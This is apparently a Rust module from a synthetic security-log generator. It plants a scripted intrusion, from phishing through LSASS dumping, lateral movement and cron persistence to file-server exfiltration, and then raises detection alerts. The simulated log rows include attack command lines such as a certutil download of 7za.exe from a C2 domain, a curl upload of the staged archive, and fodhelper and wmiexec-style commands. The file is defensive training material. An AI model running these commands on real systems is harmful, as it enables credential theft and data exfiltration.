//! The planted intrusion, step by step, written through the same emitters as the
//! background so that it is shaped exactly like ordinary activity.
//!
//! Phishing → encoded PowerShell → C2 → UAC bypass and LSASS dump → lateral movement
//! with the helpdesk admin's credentials → Linux cron persistence → cloud sign-in
//! from abroad → staging and exfiltration from the file server.

use super::alerts::{AlertSpec, Entities, Product, raise};
use super::background::{desktop, ssh_login};
use super::encode::audit_arg;
use super::org::{AD_DOMAIN, DOMAIN_SID, SERVICES};
use super::rng::Rng;
use super::rows::{SecurityEvent, Ts};
use super::signin::{Signin, signin};
use super::story::PlantedStory;
use super::world::{Actor, Auth, Elevation, LSASS_PID, LinuxExec, World, hex_id};

const MINUTE: i64 = 60_000;
const POWERSHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const OFFICE: &str = "C:\\Program Files\\Microsoft Office\\root\\Office16";

fn ts(t: chrono::DateTime<chrono::Utc>) -> Ts {
    Ts(t.timestamp_millis())
}

/// The intrusion day's midnight, which the background leaves to [`plant`] for the
/// victim's session.
pub(crate) fn victim_day(story: &PlantedStory) -> Ts {
    let t = ts(story.times.phish_opened);
    Ts(t.0 - t.0.rem_euclid(super::background::DAY))
}

/// Plants every step of the story; `end` bounds the repeating beacons.
pub(crate) fn plant(world: &mut World, seed: u64, story: &PlantedStory, start: Ts, end: Ts) {
    let rng = Rng::stream(seed, "intrusion");
    let rng = &rng;
    let org = world.org.clone();
    let ws = org.host(&story.patient_zero_host);
    let fs = org.host(&story.lateral_target_host);
    let linux = org.host(&story.linux_host);
    let victim = org.account(&story.phished_account);
    let admin = org.account(&story.compromised_account);
    let helpdesk_ws = org.host("WS-028");
    let ws_ip = org.hosts[ws].ip.clone();
    let ws_name = org.hosts[ws].name.clone();
    let times = &story.times;
    let day = victim_day(story);

    // Precondition: the victim was made a local administrator "temporarily".
    let grant = if day.0 - start.0 >= super::background::DAY {
        start.plus(14 * 3_600_000 + 10 * MINUTE)
    } else {
        day.plus(8 * 3_600_000 + 5 * MINUTE)
    };
    let admin_actor = Actor::account(&org, admin);
    world.security_event.push(SecurityEvent {
        TimeGenerated: grant,
        Computer: org.hosts[ws].fqdn.clone(),
        EventID: 4732,
        Activity: "4732 - A member was added to a security-enabled local group.".into(),
        Account: format!("{AD_DOMAIN}\\{}", admin_actor.name),
        AccountType: "User".into(),
        SubjectUserSid: admin_actor.sid.clone(),
        SubjectUserName: admin_actor.name.clone(),
        SubjectDomainName: AD_DOMAIN.into(),
        SubjectLogonId: hex_id(0x9_31d4),
        TargetUserSid: "S-1-5-32-544".into(),
        TargetUserName: "Administrators".into(),
        TargetDomainName: "Builtin".into(),
        TargetAccount: "Builtin\\Administrators".into(),
        MemberName: format!(
            "CN={},OU=Finance,OU=Staff,DC=corp,DC=larkmoor,DC=com",
            org.accounts[victim].display
        ),
        MemberSid: org.accounts[victim].sid.clone(),
        ..Default::default()
    });

    // The victim's morning, before the attachment.
    let user = Actor::account(&org, victim);
    let logon_at = day.plus(8 * 3_600_000 + 31 * MINUTE + 10_000);
    let session = world.logon(
        rng,
        ws,
        logon_at,
        &user,
        2,
        &ws_ip,
        &ws_name,
        Auth::Negotiate,
    );
    let explorer = desktop(world, rng, ws, logon_at, &session);
    let outlook = world.spawn(
        rng,
        ws,
        Some(explorer),
        logon_at.plus(95_000),
        &format!("{OFFICE}\\OUTLOOK.EXE"),
        format!("\"{OFFICE}\\OUTLOOK.EXE\" "),
        &session,
        Elevation::Limited,
    );
    let teams = world.spawn(rng, ws, Some(explorer), logon_at.plus(21_000), "C:\\Program Files\\WindowsApps\\MSTeams_24243.1309.3132.617_x64__8wekyb3d8bbwe\\ms-teams.exe", "\"ms-teams.exe\" msteams:system-initiated".into(), &session, Elevation::Limited);
    for k in 0..4 {
        let service = SERVICES[k % 3];
        let proc = if k % 2 == 0 { outlook } else { teams };
        let t = logon_at.plus(120_000 + k as i64 * 7 * MINUTE);
        world.resolve(ws, t, service.name, service.ips);
        world.connect(
            rng,
            proc,
            t.plus(30),
            service.ips[0],
            443,
            service.name,
            9_000,
            400_000,
        );
    }

    // The helpdesk admin fixes Outlook over RDP: his credentials stay in LSASS.
    let helpdesk_ip = org.hosts[helpdesk_ws].ip.clone();
    let rdp_at = ts(times.helpdesk_rdp);
    let rdp = world.logon(
        rng,
        ws,
        rdp_at,
        &admin_actor,
        10,
        &helpdesk_ip,
        "WS-028",
        Auth::Negotiate,
    );
    let admin_explorer = desktop(world, rng, ws, rdp_at, &rdp);
    world.spawn(
        rng,
        ws,
        Some(admin_explorer),
        rdp_at.plus(64_000),
        "C:\\Windows\\System32\\control.exe",
        "\"C:\\Windows\\System32\\control.exe\" mlcfg32.cpl".into(),
        &rdp,
        Elevation::Full,
    );
    world.logoff(ws, rdp_at.plus(16 * MINUTE + 28_000), &rdp, 10);

    // 1. The attachment and the encoded PowerShell.
    let doc = format!(
        "C:\\Users\\{}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\4JX2T9QK\\{}",
        story.phished_account, story.attachment
    );
    let word = world.spawn(
        rng,
        ws,
        Some(outlook),
        ts(times.phish_opened),
        &format!("{OFFICE}\\WINWORD.EXE"),
        format!("\"{OFFICE}\\WINWORD.EXE\" /n \"{doc}\" /o \"\""),
        &session,
        Elevation::Limited,
    );
    let ps = world.spawn(
        rng,
        ws,
        Some(word),
        ts(times.powershell),
        POWERSHELL,
        story.powershell_command_line.clone(),
        &session,
        Elevation::Limited,
    );
    world.dns_query(
        ts(times.c2_dns),
        &ws_ip,
        &story.c2_domain,
        "A",
        &[&story.c2_ip],
    );
    world.connect(
        rng,
        ps,
        ts(times.c2_first_connection),
        &story.c2_ip,
        80,
        &story.c2_url,
        412,
        48_213,
    );

    // Beacons over HTTPS until the victim logs off in the evening.
    let logoff_at = day.plus(17 * 3_600_000 + 42 * MINUTE + 7_000);
    let mut t = ts(times.c2_first_connection).plus(5 * MINUTE);
    while t < logoff_at && t < end {
        world.resolve(ws, t, &story.c2_domain, &[&story.c2_ip]);
        world.connect(
            rng,
            ps,
            t.plus(15),
            &story.c2_ip,
            443,
            &story.c2_domain,
            rng.range(600, 2_400),
            rng.range(300, 6_000),
        );
        t = t.plus(5 * MINUTE + rng.range(-60_000, 60_000));
    }

    // Discovery.
    let disc = ts(times.discovery);
    world.spawn(
        rng,
        ws,
        Some(ps),
        disc,
        "C:\\Windows\\System32\\whoami.exe",
        "\"C:\\Windows\\system32\\whoami.exe\" /groups".into(),
        &session,
        Elevation::Limited,
    );
    let net = world.spawn(
        rng,
        ws,
        Some(ps),
        disc.plus(35_000),
        "C:\\Windows\\System32\\net.exe",
        "\"C:\\Windows\\system32\\net.exe\" group \"Domain Admins\" /domain".into(),
        &session,
        Elevation::Limited,
    );
    world.spawn(
        rng,
        ws,
        Some(net),
        disc.plus(35_040),
        "C:\\Windows\\System32\\net1.exe",
        "C:\\Windows\\system32\\net1  group \"Domain Admins\" /domain".into(),
        &session,
        Elevation::Limited,
    );
    world.spawn(
        rng,
        ws,
        Some(ps),
        disc.plus(80_000),
        "C:\\Windows\\System32\\nltest.exe",
        "\"C:\\Windows\\system32\\nltest.exe\" /dclist:corp.larkmoor.com".into(),
        &session,
        Elevation::Limited,
    );

    // 2. UAC bypass (fodhelper) for an elevated shell, then the LSASS dump.
    let dump_at = ts(times.credential_dump);
    let fod = world.spawn(
        rng,
        ws,
        Some(ps),
        dump_at.plus(-27_000),
        "C:\\Windows\\System32\\fodhelper.exe",
        "\"C:\\Windows\\system32\\fodhelper.exe\"".into(),
        &session,
        Elevation::Full,
    );
    let elevated = world.spawn(
        rng,
        ws,
        Some(fod),
        dump_at.plus(-26_200),
        POWERSHELL,
        story.powershell_command_line.clone(),
        &session,
        Elevation::Full,
    );
    let dump = world.spawn(
        rng,
        ws,
        Some(elevated),
        dump_at,
        "C:\\Windows\\System32\\rundll32.exe",
        story.credential_dump_command.clone(),
        &session,
        Elevation::Full,
    );
    // The dump leaves over the C2 channel.
    world.connect(
        rng,
        elevated,
        dump_at.plus(3 * MINUTE),
        &story.c2_ip,
        443,
        &story.c2_domain,
        47_185_920,
        2_310,
    );

    // 3. Lateral movement to the file server with the stolen admin account.
    let fail_at = ts(times.lateral_failures);
    for k in 0..3 {
        world.logon_failure(
            rng,
            fs,
            fail_at.plus(k * 11_300),
            "Administrator",
            &format!("{DOMAIN_SID}-500"),
            3,
            &ws_ip,
            &ws_name,
            "0xc000006a",
        );
    }
    let lateral = world.logon(
        rng,
        fs,
        ts(times.lateral_logon),
        &admin_actor,
        3,
        &ws_ip,
        &ws_name,
        Auth::Ntlm,
    );
    world.connect(
        rng,
        elevated,
        ts(times.lateral_logon).plus(-120),
        &org.hosts[fs].ip,
        445,
        "",
        0,
        0,
    );
    world.connect(
        rng,
        elevated,
        ts(times.lateral_logon).plus(2_100),
        &org.hosts[fs].ip,
        135,
        "",
        0,
        0,
    );
    let fs_boot = world.hosts[fs].boot.clone().unwrap_or_default();
    let network = Actor::network_service(&org, fs);
    let wmi = world.spawn(
        rng,
        fs,
        Some(fs_boot.dcom),
        ts(times.lateral_logon).plus(2_400),
        "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
        "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding".into(),
        &network,
        Elevation::System,
    );
    let out = |n: i64| {
        format!(
            "1> \\\\127.0.0.1\\ADMIN$\\__{}.{} 2>&1",
            times.lateral_logon.timestamp() + n,
            17 + n % 80
        )
    };
    let wmiexec = |world: &mut World, rng: &Rng, at: Ts, command: &str, n: i64| {
        world.spawn(
            rng,
            fs,
            Some(wmi),
            at,
            "C:\\Windows\\System32\\cmd.exe",
            format!("cmd.exe /Q /c {command} {}", out(n)),
            &lateral,
            Elevation::Full,
        )
    };
    let lat = ts(times.lateral_logon);
    wmiexec(world, rng, lat.plus(3_000), "whoami /all", 0);
    wmiexec(world, rng, lat.plus(41_000), "net share", 41);
    wmiexec(world, rng, lat.plus(95_000), "dir D:\\Shares\\Finance", 95);

    // 4. Linux: ssh with the stolen password, sudo, and a cron job that beacons.
    let ssh_at = ts(times.linux_logon);
    let ssh = world.spawn(
        rng,
        ws,
        Some(elevated),
        ssh_at.plus(-11_000),
        "C:\\Windows\\System32\\OpenSSH\\ssh.exe",
        format!(
            "\"C:\\Windows\\System32\\OpenSSH\\ssh.exe\" {}@{}",
            story.compromised_account, story.linux_ip
        ),
        &session,
        Elevation::Full,
    );
    world.connect(
        rng,
        ssh,
        ssh_at.plus(-10_500),
        &story.linux_ip,
        22,
        "",
        0,
        0,
    );
    let (sshd, _shell, ses) = ssh_login(
        world,
        rng,
        linux,
        ssh_at.plus(-3),
        admin,
        &ws_ip,
        "password",
    );
    let a = org.accounts[admin].clone();
    let home = format!("/home/{}", a.sam);
    let sudo_at = ssh_at.plus(39_000);
    let sudo_pid = world.linux_pid(linux, rng);
    world.syslog(
        linux,
        sudo_at,
        "authpriv",
        "notice",
        "sudo",
        Some(sudo_pid),
        format!(
            "{} : TTY=pts/0 ; PWD={home} ; USER=root ; COMMAND=/bin/bash",
            a.sam
        ),
    );
    world.audit_pam(
        linux,
        sudo_at,
        "USER_ACCT",
        sudo_pid,
        Some(a.uid),
        Some(ses),
        "PAM:accounting",
        &a.sam,
        "/usr/bin/sudo",
        None,
        "/dev/pts/0",
        true,
    );
    world.audit_event(linux, sudo_at.plus(1), vec![("USER_CMD", format!("pid={sudo_pid} uid={} auid={} ses={ses} subj=unconfined msg='cwd=\"{home}\" cmd={} exe=\"/usr/bin/sudo\" terminal=pts/0 res=success'", a.uid, a.uid, audit_arg("-i")))]);
    world.audit_pam(
        linux,
        sudo_at.plus(2),
        "CRED_REFR",
        sudo_pid,
        Some(a.uid),
        Some(ses),
        "PAM:setcred",
        "root",
        "/usr/bin/sudo",
        None,
        "/dev/pts/0",
        true,
    );
    world.audit_pam(
        linux,
        sudo_at.plus(3),
        "USER_START",
        sudo_pid,
        Some(a.uid),
        Some(ses),
        "PAM:session_open",
        "root",
        "/usr/bin/sudo",
        None,
        "/dev/pts/0",
        true,
    );
    world.syslog(
        linux,
        sudo_at.plus(3),
        "authpriv",
        "info",
        "sudo",
        Some(sudo_pid),
        format!(
            "pam_unix(sudo:session): session opened for user root(uid=0) by {}(uid={})",
            a.sam, a.uid
        ),
    );
    let root_shell = world.linux_pid(linux, rng);
    world.audit_exec(
        rng,
        linux,
        sudo_at.plus(20),
        &LinuxExec {
            pid: root_shell,
            ppid: sudo_pid,
            uid: 0,
            auid: a.uid,
            euid: 0,
            ses,
            tty: "pts0",
            exe: "/usr/bin/bash",
            argv: &["-bash"],
            cwd: "/root",
            key: "root_exec",
        },
    );
    let pid = world.linux_pid(linux, rng);
    world.audit_exec(
        rng,
        linux,
        ts(times.persistence).plus(-38_000),
        &LinuxExec {
            pid,
            ppid: root_shell,
            uid: 0,
            auid: a.uid,
            euid: 0,
            ses,
            tty: "pts0",
            exe: "/usr/bin/crontab",
            argv: &["crontab", "-l"],
            cwd: "/root",
            key: "cron",
        },
    );
    let pid = world.linux_pid(linux, rng);
    let persist_at = ts(times.persistence);
    let argv = ["bash", "-c", story.persistence_command.as_str()];
    world.audit_exec(
        rng,
        linux,
        persist_at,
        &LinuxExec {
            pid,
            ppid: root_shell,
            uid: 0,
            auid: a.uid,
            euid: 0,
            ses,
            tty: "pts0",
            exe: "/usr/bin/bash",
            argv: &argv,
            cwd: "/root",
            key: "root_exec",
        },
    );
    // The file watch on the crontab directory fires when bash opens the file.
    world.audit_event(linux, persist_at.plus(2), vec![
        ("SYSCALL", format!("arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=5616e2a0c8d0 a2=441 a3=1b6 items=2 ppid={root_shell} pid={pid} auid={} uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses={ses} comm=\"bash\" exe=\"/usr/bin/bash\" subj=unconfined key=\"cron\"", a.uid)),
        ("CWD", "cwd=\"/root\"".into()),
        ("PATH", "item=0 name=\"/var/spool/cron/crontabs/\" inode=262172 dev=08:01 mode=041730 ouid=0 ogid=107 rdev=00:00 nametype=PARENT cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0".into()),
        ("PATH", "item=1 name=\"/var/spool/cron/crontabs/root\" inode=262387 dev=08:01 mode=0100600 ouid=0 ogid=0 rdev=00:00 nametype=CREATE cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0".into()),
        ("PROCTITLE", format!("proctitle={}", super::encode::proctitle(&argv))),
    ]);
    let reload = Ts(persist_at.0 - persist_at.0.rem_euclid(MINUTE) + MINUTE + 400);
    world.syslog(
        linux,
        reload,
        "cron",
        "info",
        "cron",
        Some(611),
        "(root) RELOAD (crontabs/root)".into(),
    );
    let bye = persist_at.plus(3 * MINUTE + 12_000);
    world.syslog(
        linux,
        bye,
        "auth",
        "info",
        "sshd",
        Some(sshd),
        format!("Received disconnect from {ws_ip} port 50112:11: disconnected by user"),
    );
    world.syslog(
        linux,
        bye.plus(3),
        "authpriv",
        "info",
        "sshd",
        Some(sshd),
        format!("pam_unix(sshd:session): session closed for user {}", a.sam),
    );
    world.audit_pam(
        linux,
        bye.plus(4),
        "USER_END",
        sshd,
        Some(a.uid),
        Some(ses),
        "PAM:session_close",
        &a.sam,
        "/usr/sbin/sshd",
        Some(&ws_ip),
        "ssh",
        true,
    );

    // The cron job fetches the implant script every five minutes until the window ends.
    let linux_ip = org.hosts[linux].ip.clone();
    let cron_cmd = story
        .cron_entry
        .split_once(" * * * * ")
        .map_or(story.cron_entry.as_str(), |(_, c)| c)
        .to_string();
    let x_sh = format!("http://{}/x.sh", story.c2_domain);
    let mut t = Ts(reload.0 - reload.0.rem_euclid(5 * MINUTE) + 5 * MINUTE + rng.range(100, 900));
    while t < end {
        super::background::cron_job(world, rng, linux, t, "root", 0, &cron_cmd);
        world.dns_query(
            t.plus(30),
            &linux_ip,
            &story.c2_domain,
            "A",
            &[&story.c2_ip],
        );
        world.firewall_flow(
            t.plus(45),
            &linux_ip,
            40_000 + rng.below(20_000) as i32,
            &story.c2_ip,
            80,
            &x_sh,
            142,
            rng.range(0, 60),
            "",
            "allow",
        );
        t = Ts(t.0 - t.0.rem_euclid(5 * MINUTE) + 5 * MINUTE + rng.range(100, 900));
    }

    // The stolen admin account in the cloud, from the attacker's VPS: MFA push
    // denied by policy first, then approved by the tired owner.
    let abroad = ts(times.signin_abroad);
    let base = Signin {
        at: abroad.plus(-25_000),
        account: admin,
        app: 5,
        ip: &story.attacker_ip,
        country: &story.attacker_country,
        city: "Bucharest",
        result: "50074",
        managed: false,
        risk: "medium",
    };
    signin(world, rng, &base);
    signin(
        world,
        rng,
        &Signin {
            at: abroad,
            result: "0",
            ..base
        },
    );

    // 5. Staging and exfiltration from the file server.
    let stage = ts(times.staging);
    let tool = "C:\\ProgramData\\Microsoft\\Crypto\\7za.exe";
    let certutil_cmd = wmiexec(
        world,
        rng,
        stage.plus(-4 * MINUTE),
        &format!(
            "certutil -urlcache -split -f http://{}/t/7za.exe {tool}",
            story.c2_domain
        ),
        300,
    );
    let certutil = world.spawn(
        rng,
        fs,
        Some(certutil_cmd),
        stage.plus(-4 * MINUTE + 200),
        "C:\\Windows\\System32\\certutil.exe",
        format!(
            "certutil  -urlcache -split -f http://{}/t/7za.exe {tool}",
            story.c2_domain
        ),
        &lateral,
        Elevation::Full,
    );
    world.resolve(
        fs,
        stage.plus(-4 * MINUTE + 400),
        &story.c2_domain,
        &[&story.c2_ip],
    );
    world.connect(
        rng,
        certutil,
        stage.plus(-4 * MINUTE + 520),
        &story.c2_ip,
        80,
        &format!("http://{}/t/7za.exe", story.c2_domain),
        380,
        1_209_344,
    );
    let archive_cmd = format!(
        "{tool} a -mx1 -pLk!2026q3 {} D:\\Shares\\Finance",
        story.staged_archive
    );
    let zip_cmd = wmiexec(world, rng, stage, &archive_cmd, 1300);
    world.spawn(
        rng,
        fs,
        Some(zip_cmd),
        stage.plus(180),
        tool,
        archive_cmd.clone(),
        &lateral,
        Elevation::Full,
    );
    let upload_url = format!("https://{}/u/7f3k2q", story.exfil_domain);
    let curl_cmd = wmiexec(
        world,
        rng,
        ts(times.exfil_dns).plus(-400),
        &format!("curl.exe -s -k -T {} {upload_url}", story.staged_archive),
        2420,
    );
    let curl = world.spawn(
        rng,
        fs,
        Some(curl_cmd),
        ts(times.exfil_dns).plus(-250),
        "C:\\Windows\\System32\\curl.exe",
        format!("curl.exe  -s -k -T {} {upload_url}", story.staged_archive),
        &lateral,
        Elevation::Full,
    );
    world.dns_query(
        ts(times.exfil_dns),
        &org.hosts[fs].ip,
        &story.exfil_domain,
        "A",
        &[&story.exfil_ip],
    );
    world.connect(
        rng,
        curl,
        ts(times.exfil_transfer),
        &story.exfil_ip,
        443,
        &upload_url,
        story.exfil_bytes,
        1_820,
    );
    wmiexec(
        world,
        rng,
        ts(times.exfil_transfer).plus(19 * MINUTE),
        &format!("del /f {} {tool}", story.staged_archive),
        3500,
    );
    world.logoff(fs, ts(times.exfil_transfer).plus(21 * MINUTE), &lateral, 3);
    world.logoff(ws, logoff_at, &session, 2);

    intrusion_alerts(
        world,
        rng,
        story,
        IntrusionProcs {
            word,
            ps,
            elevated,
            dump,
            ws,
            fs,
            linux,
            victim,
            admin,
            lateral_logon: lateral.logon_id,
        },
    );
}

/// Process and host indexes the alerts refer to.
struct IntrusionProcs {
    word: usize,
    ps: usize,
    elevated: usize,
    dump: usize,
    ws: usize,
    fs: usize,
    linux: usize,
    victim: usize,
    admin: usize,
    lateral_logon: u64,
}

fn process_entity(
    world: &World,
    e: &mut Entities,
    proc: usize,
    parent: Option<usize>,
    account: Option<usize>,
    host: usize,
) -> usize {
    let p = world.procs[proc].clone();
    let (dir, name) = p.path.rsplit_once('\\').unwrap_or(("", &p.path));
    let image = e.file(dir, name);
    e.process(p.pid, &p.cmdline, p.created, image, parent, account, host)
}

fn intrusion_alerts(world: &mut World, rng: &Rng, story: &PlantedStory, p: IntrusionProcs) {
    let t = &story.times;
    let ws_fqdn = world.org.hosts[p.ws].fqdn.to_ascii_lowercase();

    let mut e = Entities::default();
    e.account(world, p.victim, None);
    e.mailbox(world, p.victim);
    let file = e.file("", &story.attachment);
    e.mail_message(
        &story.phished_upn,
        &story.phishing_sender,
        &story.phishing_subject,
        ts(t.phish_opened).plus(-9 * MINUTE),
        &[file],
    );
    raise(
        world,
        rng,
        AlertSpec {
            at: ts(t.phish_opened).plus(36 * MINUTE),
            start: ts(t.phish_opened).plus(-9 * MINUTE),
            product: Product::DefenderOffice,
            name: "Email messages containing malicious file removed after delivery",
            severity: "Medium",
            description: format!(
                "Emails with a malicious file that were delivered and later removed. Sender: {}. Recipient: {}.",
                story.phishing_sender, story.phished_upn
            ),
            tactics: "InitialAccess",
            techniques: &["T1566", "T1566.001"],
            compromised: story.phished_upn.clone(),
            entities: e,
            remediation: &[
                "Review the recipients who opened the attachment",
                "Investigate the devices where it was opened",
            ],
            extended: vec![
                ("Sender", story.phishing_sender.clone()),
                ("Subject", story.phishing_subject.clone()),
            ],
        },
    );

    let mut e = Entities::default();
    let host = e.host(world, p.ws);
    let account = e.account(world, p.victim, Some(host));
    let outlook = world.procs[p.word].parent;
    let outlook_entity =
        outlook.map(|o| process_entity(world, &mut e, o, None, Some(account), host));
    let word = process_entity(world, &mut e, p.word, outlook_entity, Some(account), host);
    process_entity(world, &mut e, p.ps, Some(word), Some(account), host);
    e.url(&story.c2_url);
    raise(world, rng, AlertSpec {
        at: ts(t.powershell).plus(2 * MINUTE + 11_000),
        start: ts(t.powershell),
        product: Product::DefenderEndpoint,
        name: "Suspicious PowerShell command line",
        severity: "Medium",
        description: "A suspicious PowerShell command line with an encoded command was started by an Office application. Attackers use encoded commands to hide download cradles.".into(),
        tactics: "Execution",
        techniques: &["T1059.001", "T1027"],
        compromised: ws_fqdn.clone(),
        entities: e,
        remediation: &["Decode the command and check the URLs it contacts", "Isolate the device if the payload is malicious"],
        extended: vec![("MachineGroup", "Finance workstations".into())],
    });

    let mut e = Entities::default();
    e.host(world, p.ws);
    e.ip(&story.c2_ip, Some("NL"));
    raise(
        world,
        rng,
        AlertSpec {
            at: ts(t.c2_first_connection).plus(31 * MINUTE),
            start: ts(t.c2_first_connection),
            product: Product::SentinelScheduled,
            name: "TI map IP entity to CommonSecurityLog",
            severity: "Medium",
            description:
                "Identifies a match in CommonSecurityLog from any IP IOC from threat intelligence."
                    .into(),
            tactics: "CommandAndControl",
            techniques: &["T1071"],
            compromised: String::new(),
            entities: e,
            remediation: &[],
            extended: vec![
                ("Query Period", "14d".into()),
                ("Trigger Operator", "GreaterThan".into()),
            ],
        },
    );

    let mut e = Entities::default();
    let host = e.host(world, p.ws);
    let account = e.account(world, p.victim, Some(host));
    let parent = process_entity(world, &mut e, p.elevated, None, Some(account), host);
    process_entity(world, &mut e, p.dump, Some(parent), Some(account), host);
    e.file("C:\\Windows\\System32", "lsass.exe");
    raise(
        world,
        rng,
        AlertSpec {
            at: ts(t.credential_dump).plus(48_000),
            start: ts(t.credential_dump),
            product: Product::DefenderEndpoint,
            name: "Suspicious access to LSASS service memory",
            severity: "High",
            description: format!(
                "rundll32.exe used comsvcs.dll MiniDump to dump the memory of lsass.exe (pid {LSASS_PID}). Attackers read credentials of logged-on users from such dumps."
            ),
            tactics: "CredentialAccess",
            techniques: &["T1003.001"],
            compromised: ws_fqdn.clone(),
            entities: e,
            remediation: &[
                "Reset the passwords of every account that logged on to the device",
                "Isolate the device",
            ],
            extended: vec![],
        },
    );

    let mut e = Entities::default();
    let target = e.host(world, p.fs);
    let account = e.account(world, p.admin, Some(target));
    e.ip(&story.patient_zero_ip, None);
    e.host(world, p.ws);
    e.session(p.lateral_logon, ts(t.lateral_logon), target, account);
    raise(
        world,
        rng,
        AlertSpec {
            at: ts(t.lateral_logon).plus(44 * MINUTE),
            start: ts(t.lateral_logon),
            product: Product::SentinelScheduled,
            name: "Privileged account logon from a new source",
            severity: "Medium",
            description: format!(
                "{} logged on to {} from {}, a source it has not used in the last 14 days, after failed logons from the same address.",
                story.compromised_account, story.lateral_target_host, story.patient_zero_ip
            ),
            tactics: "LateralMovement,PrivilegeEscalation",
            techniques: &["T1021.002", "T1078.002", "T1550.002"],
            compromised: story.lateral_target_host.clone(),
            entities: e,
            remediation: &[],
            extended: vec![("Query Period", "14d".into())],
        },
    );

    let mut e = Entities::default();
    e.account(world, p.admin, None);
    e.ip(&story.attacker_ip, Some(&story.attacker_country));
    raise(world, rng, AlertSpec {
        at: ts(t.signin_abroad).plus(13 * MINUTE),
        start: ts(t.signin_abroad),
        product: Product::IdentityProtection,
        name: "Unfamiliar sign-in properties",
        severity: "Medium",
        description: "The sign-in had properties (IP address, location, device) not seen recently for this user.".into(),
        tactics: "InitialAccess",
        techniques: &["T1078.004"],
        compromised: story.compromised_upn.clone(),
        entities: e,
        remediation: &["Confirm the sign-in with the user", "Require a password reset if it was not them"],
        extended: vec![("Location", format!("Bucharest, {}", story.attacker_country)), ("Client IP Address", story.attacker_ip.clone())],
    });

    let mut e = Entities::default();
    let host = e.host(world, p.linux);
    let account = e.account(world, p.admin, Some(host));
    let image = e.file("/usr/bin", "bash");
    e.process(
        0,
        &format!("bash -c {}", story.persistence_command),
        ts(t.persistence),
        image,
        None,
        Some(account),
        host,
    );
    e.url(&format!("http://{}/x.sh", story.c2_domain));
    raise(world, rng, AlertSpec {
        at: ts(t.persistence).plus(17 * MINUTE),
        start: ts(t.persistence),
        product: Product::SentinelScheduled,
        name: "Crontab modified to download and run a script",
        severity: "High",
        description: "A root crontab entry that pipes a downloaded script into a shell was written (auditd key 'cron').".into(),
        tactics: "Persistence,Execution",
        techniques: &["T1053.003"],
        compromised: story.linux_host.clone(),
        entities: e,
        remediation: &[],
        extended: vec![("Query Period", "1h".into())],
    });

    let mut e = Entities::default();
    let host = e.host(world, p.fs);
    e.account(world, p.admin, Some(host));
    let ip = e.ip(&story.exfil_ip, Some("MD"));
    e.dns(&story.exfil_domain, &[ip]);
    raise(
        world,
        rng,
        AlertSpec {
            at: ts(t.exfil_transfer).plus(34 * MINUTE),
            start: ts(t.exfil_transfer),
            product: Product::SentinelScheduled,
            name: "Large upload to a rare external destination",
            severity: "High",
            description: format!(
                "{} sent {} bytes to {}, an address no host contacted in the last 14 days.",
                story.lateral_target_host, story.exfil_bytes, story.exfil_ip
            ),
            tactics: "Exfiltration",
            techniques: &["T1048", "T1567"],
            compromised: story.lateral_target_host.clone(),
            entities: e,
            remediation: &[],
            extended: vec![("Query Period", "14d".into())],
        },
    );
}
